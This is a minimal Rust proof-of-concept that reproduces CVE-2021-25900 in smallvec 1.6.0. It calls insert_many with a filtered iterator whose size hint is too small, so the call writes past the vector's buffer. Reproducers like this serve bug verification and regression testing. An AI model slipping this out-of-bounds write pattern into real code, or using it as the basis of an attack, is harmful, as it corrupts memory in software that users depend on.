//! CVE-2021-25900, smallvec 1.6.0: insert_many writes behind its buffer if the iterator's lower bound is too small.
use smallvec::SmallVec;

fn main() {
    let mut numbers: SmallVec<[u8; 0]> = SmallVec::new();
    numbers.push(123);
    let even = (0u8..=255).filter(|n| n % 2 == 0);
    numbers.insert_many(0, even);
    println!("{}", numbers.len());
}
